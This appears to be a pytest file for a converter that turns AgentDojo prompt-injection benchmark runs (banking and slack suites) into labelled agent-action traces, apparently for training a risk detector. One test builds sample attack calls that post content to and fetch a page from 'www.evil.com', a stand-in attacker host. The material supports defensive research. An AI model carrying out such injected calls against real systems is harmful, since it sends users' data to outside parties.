"""The committed AgentDojo traces (data/agentdojo) and their converter (data/agentdojo_convert.py).

The first tests read only the committed files, so they run without agentdojo; the last ones regenerate the
traces and need it (pip install -e '.[agentdojo]'), and are skipped otherwise.
"""

from __future__ import annotations

import importlib.util
import json
import sys
from datetime import datetime
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

DATA = Path(__file__).resolve().parent.parent / "data"
OUT = DATA / "agentdojo"
SUITES = ("banking", "slack")
REQUIRED = ("ts", "agent_id", "session_id", "action_type", "resource", "payload", "label")


def _load_converter() -> ModuleType:
    # data/ is not a package; load the script by path under a private name.
    spec = importlib.util.spec_from_file_location("agentdojo_convert", DATA / "agentdojo_convert.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while the class is built
    spec.loader.exec_module(module)
    return module


convert = _load_converter()


def _lines(suite: str, split: str) -> list[dict[str, Any]]:
    path = OUT / suite / f"{split}.jsonl"
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.fixture(scope="module")
def manifest() -> dict[str, Any]:
    result: dict[str, Any] = json.loads((OUT / "MANIFEST.json").read_text(encoding="utf-8"))
    return result


@pytest.mark.parametrize("suite", SUITES)
@pytest.mark.parametrize("split", ["train", "test"])
def test_lines_have_the_trace_format(suite: str, split: str) -> None:
    lines = _lines(suite, split)
    assert lines
    for line in lines:
        assert all(key in line for key in REQUIRED), line
        assert datetime.fromisoformat(line["ts"]).tzinfo is not None
        assert line["action_type"] in convert.ACTION_TYPES
        assert isinstance(line["resource"], str) and line["resource"]
        assert line["agent_id"] == f"{suite}-assistant"
        assert line["suite"] == suite
        assert set(line["payload"]) == {"tool", "args"} and isinstance(line["payload"]["args"], dict)
        assert line["label"] in (0, 1)
        assert ("attack" in line) == (line["label"] == 1)  # every label-1 line says which attack, no other does


@pytest.mark.parametrize("suite", SUITES)
def test_train_is_benign_and_test_has_both_labels(suite: str) -> None:
    train, test = _lines(suite, "train"), _lines(suite, "test")
    assert {line["label"] for line in train} == {0}
    assert not any("injection_task" in line for line in train)
    assert {line["label"] for line in test} == {0, 1}


@pytest.mark.parametrize("suite", SUITES)
def test_no_user_task_in_both_splits(suite: str, manifest: dict[str, Any]) -> None:
    train = {line["user_task"] for line in _lines(suite, "train")}
    test = {line["user_task"] for line in _lines(suite, "test")}
    assert train and test and not train & test
    assert sorted(train) == sorted(manifest["suites"][suite]["user_tasks"]["train"])
    assert sorted(test) == sorted(manifest["suites"][suite]["user_tasks"]["test"])


@pytest.mark.parametrize("suite", SUITES)
def test_sessions_are_contiguous_and_ordered_in_time(suite: str) -> None:
    seen: set[str] = set()
    for split in ("train", "test"):
        previous: dict[str, Any] | None = None
        for line in _lines(suite, split):
            if previous is None or line["session_id"] != previous["session_id"]:
                assert line["session_id"] not in seen, "a session is split or reused"
                seen.add(line["session_id"])
            if previous is not None:
                assert line["ts"] > previous["ts"]  # same offset everywhere, so the strings sort as times
            previous = line


@pytest.mark.parametrize("suite", SUITES)
def test_attack_calls_follow_the_user_task(suite: str) -> None:
    sessions: dict[str, list[dict[str, Any]]] = {}
    for line in _lines(suite, "test"):
        sessions.setdefault(line["session_id"], []).append(line)
    for lines in sessions.values():
        labels = [line["label"] for line in lines]
        if "injection_task" in lines[0]:
            assert labels == sorted(labels) and labels[-1] == 1, "injected calls come after the user task's"
        else:
            assert set(labels) == {0}


def test_manifest_counts_match_the_files(manifest: dict[str, Any]) -> None:
    assert manifest["agentdojo_version"] == convert.AGENTDOJO_VERSION
    assert manifest["benchmark_version"] == convert.BENCHMARK_VERSION
    assert sorted(manifest["suites"]) == list(SUITES)  # the held-out suites are never converted
    for suite in SUITES:
        for split in ("train", "test"):
            lines = _lines(suite, split)
            counts = manifest["suites"][suite]["files"][f"{suite}/{split}.jsonl"]
            assert counts["actions"] == len(lines)
            assert counts["label_1"] == sum(line["label"] for line in lines)
            assert counts["sessions"] == len({line["session_id"] for line in lines})


def test_action_types_match_the_package() -> None:
    try:
        from risk.actions import ActionType
    except ImportError as exc:  # the package may be mid-change; the converter itself does not need it
        pytest.skip(f"risk.actions not importable: {exc}")
    assert {member.value for member in ActionType} == convert.ACTION_TYPES


def test_every_rule_has_a_valid_action_type() -> None:
    for table in convert.TOOL_MAP.values():
        for rule in table.values():
            assert rule.action_type in convert.ACTION_TYPES


def test_resources_from_arguments() -> None:
    def resource(suite: str, tool: str, **args: Any) -> str:
        result: str = convert.rule_for(suite, tool).resource(args)
        return result

    assert resource("banking", "send_money", recipient="US13", amount=1.0) == "bank.transfer/US13"
    assert resource("banking", "update_scheduled_transaction", id=7, amount=1100) == "bank.schedule/7"
    assert resource("banking", "update_scheduled_transaction", id=6, recipient="US13") == "bank.schedule/6/US13"
    assert resource("slack", "get_webpage", url="https://WWW.Example.com/a/b") == "web.get/www.example.com"
    assert resource("slack", "post_webpage", url="www.example.com/random/") == "web.post/www.example.com/random"
    assert resource("slack", "invite_user_to_slack", user="Fred", user_email="f@x.com") == "slack.invite/f@x.com"
    assert resource("slack", "add_user_to_channel", user="Fred", channel="general") == (
        "slack.channel_member/general/Fred"
    )
    with pytest.raises(convert.ConversionError, match="recipient"):
        resource("banking", "send_money", amount=1.0)


def test_unmapped_tool_is_an_error_not_a_guess() -> None:
    with pytest.raises(convert.UnmappedToolError, match="download_file"):
        convert.rule_for("slack", "download_file")
    with pytest.raises(convert.UnmappedToolError):
        convert.attack_calls([convert.Call("wire_everything", {})], "banking")


def test_attack_calls_keep_side_effects_or_everything() -> None:
    read = convert.Call("get_channels", {})
    post = convert.Call("post_webpage", {"url": "www.evil.com", "content": "x"})
    visit = convert.Call("get_webpage", {"url": "www.evil.com"})
    assert convert.attack_calls([read, post], "slack") == (post,)
    assert convert.attack_calls([visit], "slack") == (visit,)


# ---- with agentdojo installed ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def truths() -> dict[str, Any]:
    pytest.importorskip("agentdojo")
    return {suite: convert.load_suite(suite) for suite in SUITES}


def test_every_ground_truth_tool_is_mapped(truths: dict[str, Any]) -> None:
    for suite, truth in truths.items():
        used = {call.tool for calls in [*truth.user_tasks.values(), *truth.injection_tasks.values()] for call in calls}
        assert used <= set(convert.TOOL_MAP[suite]), used - set(convert.TOOL_MAP[suite])
        assert set(truth.tools) <= set(convert.TOOL_MAP[suite])  # the suite's unused tools too


def test_regenerating_gives_the_committed_files(tmp_path: Path, truths: dict[str, Any]) -> None:
    from importlib.metadata import version

    if version("agentdojo") != convert.AGENTDOJO_VERSION:
        pytest.skip(f"traces were made with agentdojo {convert.AGENTDOJO_VERSION}, not {version('agentdojo')}")
    assert convert.main(["--out", str(tmp_path)]) == 0
    committed = sorted(p.relative_to(OUT) for p in OUT.rglob("*") if p.is_file())
    regenerated = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    assert regenerated == committed
    for relative in committed:
        assert (tmp_path / relative).read_bytes() == (OUT / relative).read_bytes(), relative
